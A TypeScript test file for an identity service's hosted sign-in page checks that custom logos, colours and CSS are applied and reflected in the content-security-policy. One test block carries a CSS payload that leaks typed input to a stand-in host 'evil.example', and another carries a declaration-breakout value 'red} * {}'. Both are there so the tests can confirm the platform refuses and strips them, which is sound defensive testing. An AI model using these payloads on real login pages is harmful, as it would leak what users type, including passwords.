import { Browser } from '@genauth/testing/browser.ts';
import { chromiumFound, launch } from '@genauth/testing/chromium.ts';
import { pool, REDIRECT_URI, type TestPool } from '@genauth/testing/pool.ts';
import { describe, expect, test } from 'vitest';

const addressOf = (t: TestPool): string => {
  const request = { client_id: t.application.id, redirect_uri: REDIRECT_URI, response_type: 'code', scope: 'openid' };
  return `/oidc/auth?${new URLSearchParams(request)}`;
};

/** The sign-in page of a pool's application, and what may be loaded for it. */
async function pageOf(t: TestPool) {
  await t.server.platform.changes.settled();
  const browser = new Browser(t.server);
  const { headers } = await browser.open(addressOf(t));
  const page = await browser.open(headers.get('location') ?? '');
  return { html: await page.text(), policy: page.headers.get('content-security-policy') ?? '' };
}

const refused = { statusCode: 400, apiCode: 4_000_001 };

describe('the look of the hosted page', () => {
  test('is that of the pool, where the application has none', async () => {
    const t = await pool();
    await t.admin.updateLoginPageConfig({
      update: { logo: 'https://cdn.example/logo.png', primaryColor: '#b91c1c', css: 'main { outline: 3px dotted }' },
    });
    const { html, policy } = await pageOf(t);
    expect(html).toContain('src="https://cdn.example/logo.png"');
    expect(html).toContain('main { outline: 3px dotted }');
    expect(html).toMatch(/"brandColor":"#b91c1c"/);
    expect(policy).toContain("img-src 'self' data: https://cdn.example;");
  });

  test('is that of the application before that of the pool', async () => {
    const t = await pool();
    await t.admin.updateLoginPageConfig({ update: { css: 'main { color: red }', customBackground: '#111' } });
    await t.admin.updateApplication({
      appId: t.application.id,
      brandingConfig: {
        customCSSEnabled: true,
        customCSS: 'main { color: blue }',
        customBackground: 'https://cdn.example/back.jpg',
      },
    });
    const { html, policy } = await pageOf(t);
    expect(html).toContain('main { color: blue }');
    expect(html).not.toContain('color: red');
    expect(html).toContain('body{background:url("https://cdn.example/back.jpg")');
    expect(policy).toContain('https://cdn.example');
    await t.admin.updateApplication({ appId: t.application.id, brandingConfig: { customCSSEnabled: false } });
    expect((await pageOf(t)).html).toContain('main { color: red }');
  });

  test.runIf(chromiumFound)('is applied under the policy of the page', async () => {
    const t = await pool();
    await t.admin.updateLoginPageConfig({
      update: { css: 'h1 { letter-spacing: 7px }', customBackground: 'rgb(1, 2, 3)' },
    });
    await t.server.platform.changes.settled();
    const chromium = await launch();
    try {
      const page = await chromium.newPage();
      await page.goto(new URL(addressOf(t), t.server.url).href);
      const style = (selector: string, property: string) =>
        page.evaluate(`getComputedStyle(document.querySelector('${selector}')).getPropertyValue('${property}')`);
      expect(await style('h1', 'letter-spacing')).toBe('7px');
      expect(await style('body', 'background-color')).toBe('rgb(1, 2, 3)');
    } finally {
      await chromium.close();
    }
  });
});

describe('a style sheet that could tell what is typed', () => {
  const css = 'input[value^=a] { background: url(https://evil.example/a) }';

  test('is refused, and the answer says why', async () => {
    const t = await pool();
    const ofPool = await t.admin.updateLoginPageConfig({ update: { css } });
    expect(ofPool).toMatchObject({ ...refused, message: expect.stringContaining('update.css') });
    expect(ofPool.message).toContain('url(');
    const { id: appId } = t.application;
    const brandingConfig = { customCSSEnabled: true, customCSS: css };
    expect(await t.admin.updateApplication({ appId, brandingConfig })).toMatchObject(refused);
    expect(await t.admin.createApplication({ appName: 'New', brandingConfig })).toMatchObject(refused);
  });

  test('is left out, however it came into the database', async () => {
    const t = await pool();
    const db = t.server.platform.databases.forPool(t.id);
    const branding_config = JSON.stringify({ customCSSEnabled: true, customCSS: css, customBackground: 'red} * {}' });
    const update = db.updateTable('applications').set({ branding_config, custom_branding_enabled: true });
    await update.where('id', '=', t.application.id).execute();
    const { html, policy } = await pageOf(t);
    expect(html).not.toContain('evil.example');
    expect(html).not.toContain('red}');
    expect(policy).not.toContain('evil.example');
  });
});

test('what the pool shows to tenants is kept apart, and shown whole', async () => {
  const t = await pool();
  const { data } = await t.admin.userpollTenantConfig();
  expect(data).toMatchObject({ userPoolId: t.id, enableCreateTenant: false, css: '', guardVersion: 'Advanced' });
  await t.admin.updateUserPoolTenantConfig({ update: { enableCreateTenant: true, createTenantScenes: ['login'] } });
  await t.admin.updateUserPoolTenantConfig({ update: { css: 'p { margin: 0 }' } });
  expect((await t.admin.updateTenantQrCodeState({ enabled: true })).data).toEqual({ success: true });
  const { data: after } = await t.admin.userpollTenantConfig();
  expect(after).toMatchObject({ enableCreateTenant: true, createTenantScenes: ['login'], css: 'p { margin: 0 }' });
  expect((await pageOf(t)).html).not.toContain('margin: 0 }');
});

test('the application of the verification app is found by its kind', async () => {
  const t = await pool();
  const bare = async () => (await t.admin.getVerifyConfigApp()) as unknown as { statusCode?: number; appId?: string };
  expect(await bare()).toMatchObject({ statusCode: 404 });
  const { data } = await t.admin.createApplication({ appName: 'Verify', appType: 'mfa' });
  expect((await bare()).appId).toBe(data.appId);
});
